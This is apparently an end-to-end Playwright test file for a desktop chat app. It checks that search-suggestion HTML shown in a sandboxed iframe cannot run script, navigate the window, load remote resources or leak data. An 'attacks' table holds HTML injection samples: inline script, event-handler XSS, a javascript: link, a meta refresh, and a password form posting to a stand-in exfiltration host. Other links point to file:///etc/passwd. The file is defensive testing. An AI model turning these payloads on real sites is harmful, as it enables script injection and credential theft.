import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FrameLocator, Page } from '@playwright/test';
import { searchStream } from '../support/gemini-search.ts';
import { messagesServer, stream } from '../support/messages-server.ts';
import { ask } from './support/bridge.ts';
import { keyVariable, writeConfig } from './support/config-file.ts';
import { ended, openConversation, sendMessage, turnAt } from './support/conversation.ts';
import { launch, newProfile, removeProfile, type Footnote } from './support/launch.ts';
import { listenOnLoopback, type Listener } from '../support/loopback-listener.ts';
import { tapPage, toldTo } from './support/page-tap.ts';
import { expect, test } from './support/window-test.ts';

const env = { [keyVariable]: 'k' };
const good = `<style>
.chip { color: rgb(1, 2, 3) }
@media (prefers-color-scheme: dark) { .chip { color: rgb(4, 5, 6) } }
</style><div class="container"><a class="chip" href="https://search.test/q?x=WIRE_CANARY">tide times</a>
<a class="chip" target="_blank" href="https://other.test/">moon</a></div>`;

async function declare(profile: string, suggestions: string) {
  const server = await messagesServer([stream(searchStream(suggestions))]);
  await writeConfig(
    profile,
    `[providers.llm.home]\nsource = "google"\nbase_url = "${server.baseUrl}"\napi_key_env = "${keyVariable}"\n\n[assistant.model]\nid = "home/m"\n`,
  );
  return server;
}

async function asked(page: Page): Promise<FrameLocator> {
  await sendMessage(page, 'When is the tide?');
  await ended(turnAt(page, 1));
  return suggestionsIn(page);
}

function suggestionsIn(page: Page): FrameLocator {
  return turnAt(page, 1).frameLocator('iframe');
}

/** Answers every question about links with yes; gives what was asked and what was opened. */
async function spyOnLinks({ app }: Footnote) {
  await app.evaluate(async ({ dialog, shell }) => {
    const said: string[] = [];
    Object.assign(globalThis, { said });
    Object.assign(dialog, {
      showMessageBox: async (_window: unknown, { message }: { message: string }) => {
        said.push(message);
        return { response: 0, checkboxChecked: false };
      },
    });
    Object.assign(shell, { openExternal: async (address: string) => void said.push(address) });
  });
  return () => app.evaluate(async () => (globalThis as unknown as { said: string[] }).said);
}

test('suggestions stand beside the answer in light and dark, stay after a restart, and their links ask at the door', async ({
  start,
  profile,
}) => {
  const server = await declare(profile, good);
  const before = await start({ env });
  const { page } = before;
  await tapPage(before);
  const chip = (await asked(page)).getByRole('link', { name: 'tide times' });
  await page.emulateMedia({ colorScheme: 'light' });
  await expect(chip).toHaveCSS('color', 'rgb(1, 2, 3)');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(chip).toHaveCSS('color', 'rgb(4, 5, 6)');
  expect(await turnAt(page, 1).locator('iframe').getAttribute('sandbox')).toBe('allow-popups');
  expect(JSON.stringify(await toldTo(before))).not.toContain('WIRE_CANARY');
  expect(await page.content()).not.toContain('WIRE_CANARY');
  await before.quit();
  await server.close();

  const after = await start({ env });
  const said = await spyOnLinks(after);
  await openConversation(after.page, 'When is the tide?');
  const frame = suggestionsIn(after.page);
  await frame.getByRole('link', { name: 'tide times' }).click({ noWaitAfter: true });
  await expect.poll(said).toHaveLength(2);
  await frame.getByRole('link', { name: 'moon' }).click({ noWaitAfter: true });
  await expect.poll(said).toHaveLength(4);
  const [question, address, other, opened] = await said();
  expect(question).toContain('search.test');
  expect(other).toContain('other.test');
  expect([address, opened]).toEqual(['https://search.test/q?x=WIRE_CANARY', 'https://other.test/']);
  await expect(frame.getByRole('link', { name: 'tide times' })).toBeVisible();
});

test('suggestions are in an export only when payloads are', async ({ start, profile }) => {
  const server = await declare(profile, good);
  const footnote = await start({ env });
  await asked(footnote.page);
  const folder = await mkdtemp(join(tmpdir(), 'footnote-suggestions-'));
  const exported = async (native: boolean, format: 'jsonl' | 'markdown' = 'jsonl') => {
    const file = join(folder, `${format}-${native}`);
    await footnote.app.evaluate(async ({ dialog }, filePath) => {
      Object.assign(dialog, { showSaveDialog: async () => ({ canceled: false, filePath }) });
    }, file);
    const [conversation] = await ask(footnote.page, 'conversation.list', {});
    await ask(footnote.page, 'conversation.export', {
      conversation: conversation?.id ?? '',
      format,
      native,
    });
    return readFile(file, 'utf8');
  };
  expect(await exported(false)).not.toContain('WIRE_CANARY');
  expect(await exported(false, 'markdown')).not.toContain('WIRE_CANARY');
  expect(await exported(true)).toContain('WIRE_CANARY');
  await removeProfile(folder);
  await server.close();
});

const evil = 'http://secret.exfil.invalid';

/** What is in the suggestions, and what a hand does there, where it takes one. */
const attacks: Readonly<
  Record<string, { readonly html: string; readonly act?: (frame: FrameLocator) => Promise<void> }>
> = {
  'a script': {
    html: `<p>shown</p><script>top.__pwned = 1; document.body.textContent = 'ran'</script>
      <img src="x" onerror="document.body.textContent = 'ran'"><svg onload="document.body.textContent = 'ran'"></svg>`,
  },
  'a script behind a link': {
    html: `<p>shown</p><a href="javascript:document.body.textContent='ran'">go</a>`,
    act: (frame) => frame.getByRole('link').click({ noWaitAfter: true }),
  },
  'a refresh': { html: `<p>shown</p><meta http-equiv="refresh" content="0;url=${evil}/">` },
  'a refresh to the app': {
    html: `<p>shown</p><meta http-equiv="refresh" content="0;url=app://ui/">`,
  },
  'a form': {
    html: `<p>shown</p><form action="${evil}/form" method="post" target="_top">
      <input name="password" autofocus><button>go</button></form>`,
    act: (frame) => frame.getByRole('button').click({ noWaitAfter: true }),
  },
  'remote pictures, styles and fonts': {
    html: `<p>shown</p><img src="${evil}/i"><img srcset="${evil}/s 1x"><video src="${evil}/v" poster="${evil}/p"></video>
      <style>@import "${evil}/c"; @font-face { font-family: f; src: url(${evil}/f) } p { font-family: f; background: url(${evil}/b) }</style>
      <link rel="stylesheet" href="${evil}/l"><link rel="prefetch" href="${evil}/p"><link rel="preload" as="image" href="${evil}/q">
      <link rel="dns-prefetch" href="//secret.exfil.invalid"><link rel="preconnect" href="${evil}">`,
  },
  'frames in the frame': {
    html: `<p>shown</p><iframe src="${evil}/"></iframe><iframe src="app://ui/"></iframe><iframe srcdoc="<p>inner</p>"></iframe>
      <object data="${evil}/o"></object><embed src="${evil}/e">`,
  },
  'another base': {
    html: `<base href="${evil}/" target="_top"><p>shown</p><img src="i.png">`,
  },
};

async function launchWalled(suggestions: string, outside: Listener) {
  const profile = await newProfile();
  const server = await declare(profile, suggestions);
  const elsewhere = `--host-resolver-rules=MAP * 127.0.0.1:${outside.port}, EXCLUDE 127.0.0.1`;
  const footnote = await launch({ profile, env, switches: [elsewhere] });
  const close = async () => {
    await footnote.quit();
    await server.close();
    await removeProfile(profile);
    await outside.close();
  };
  return { footnote, close };
}

for (const [name, { html, act }] of Object.entries(attacks)) {
  test(`${name} in suggestions can do nothing`, async () => {
    const outside = await listenOnLoopback();
    const { footnote, close } = await launchWalled(html, outside);
    const { page, app } = footnote;
    const said = await spyOnLinks(footnote);
    const frame = await asked(page);
    await expect(frame.getByText('shown')).toBeVisible();
    await act?.(frame);
    // oxlint-disable-next-line playwright/no-wait-for-timeout -- what must not happen cannot be waited for
    await page.waitForTimeout(500);
    await expect(frame.getByText('shown')).toBeVisible();
    await expect(frame.getByText('ran')).toHaveCount(0);
    await expect(frame.getByText('inner')).toHaveCount(0);
    expect(page.url()).toMatch(/^app:\/\/ui\//);
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
    expect(
      await app.evaluate(async ({ BrowserWindow }) => BrowserWindow.getAllWindows().length),
    ).toBe(1);
    expect(await said()).toEqual([]);
    expect(outside.connections()).toBe(0);
    await close();
  });
}

test('links that want the whole window ask at the door like all others', async () => {
  const html = `<base href="https://based.test/" target="_top"><p>shown</p><a href="a">based</a>
    <a href="https://top.test/" target="_top" ping="${evil}/ping">top</a><a href="app://ui/" target="_parent">ui</a>
    <a href="data:text/html,gone">data</a><a href="file:///etc/passwd">file</a><a href="app://frame/suggestions/x" target="_self">frame</a>`;
  const outside = await listenOnLoopback();
  const { footnote, close } = await launchWalled(html, outside);
  const said = await spyOnLinks(footnote);
  const frame = await asked(footnote.page);
  for (const name of ['based', 'top', 'ui', 'data', 'file', 'frame']) {
    await frame.getByRole('link', { name }).click({ noWaitAfter: true });
    await frame.getByRole('link', { name }).click({ noWaitAfter: true, button: 'middle' });
  }
  // oxlint-disable-next-line playwright/no-wait-for-timeout -- what must not happen cannot be waited for
  await footnote.page.waitForTimeout(500);
  const opened = (await said()).filter((words) => /^[a-z]+:\/\//.test(words));
  expect(new Set(opened)).toEqual(new Set(['https://based.test/a', 'https://top.test/']));
  await expect(frame.getByText('shown')).toBeVisible();
  expect(footnote.page.url()).toMatch(/^app:\/\/ui\//);
  expect(outside.connections()).toBe(0);
  await close();
});

test('suggestions of any size or shape leave the page as it is', async () => {
  const outside = await listenOnLoopback();
  const { footnote, close } = await launchWalled(`<p>shown</p>${'x'.repeat(300_000)}`, outside);
  const frame = await asked(footnote.page);
  await expect(frame.getByText('can no longer be shown')).toBeVisible();
  await close();
});

test('the page cannot read what is in the frame', async ({ start, profile }) => {
  const server = await declare(profile, good);
  const footnote = await start({ env });
  await asked(footnote.page);
  const address = await turnAt(footnote.page, 1).locator('iframe').getAttribute('src');
  const read = await footnote.page.evaluate(() => {
    const frame = document.querySelector('iframe');
    return frame?.contentDocument ?? 'nothing';
  });
  expect(read).toBe('nothing');
  expect(address).toMatch(/^app:\/\/frame\/suggestions\/[0-9a-f-]{36}\/[0-9a-z]{7}$/);
  await server.close();
});
